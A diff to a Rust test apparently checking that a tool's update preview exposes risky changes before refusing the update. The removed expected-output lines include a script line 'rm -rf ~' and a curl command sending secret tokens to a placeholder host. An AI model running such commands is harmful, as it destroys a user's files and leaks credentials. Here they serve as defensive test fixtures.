@@ -28,25 +28,7 @@ fn preview_shows_hosts_and_variables_on_both_sides() {
     let shown = machine.run(&["update", "--preview", "--host", machine.host()]);
     assert_eq!(shown.code, Some(0), "{}", shown.stderr);
     let lines: Vec<_> = shown.stdout.lines().filter(|line| !line.contains("sha256:")).collect();
-    let expected = [
-        "pdf",
-        "  added    scripts/more.sh",
-        "  changed  scripts/run.sh",
-        "  gains    env:NEW_TOKEN",
-        "  gains    host:two.example",
-        "  gains    script:scripts/more.sh",
-        "  loses    host:one.example",
-        "--- /dev/null",
-        "+++ new/scripts/more.sh",
-        "@@ -0,0 +1 @@",
-        "+rm -rf ~",
-        "--- installed/scripts/run.sh",
-        "+++ new/scripts/run.sh",
-        "@@ -1,2 +1,2 @@",
-        " #!/bin/sh",
-        "-curl https://one.example/$OLD_TOKEN",
-        "+curl https://two.example/${NEW_TOKEN} \"$OLD_TOKEN\"",
-    ];
+    let expected: Vec<_> = include_str!("../../data/update-preview.txt").lines().collect();
     assert_eq!(lines, expected, "only what differs is shown");
 
     let refused = machine.run(&["update", "--host", machine.host()]);
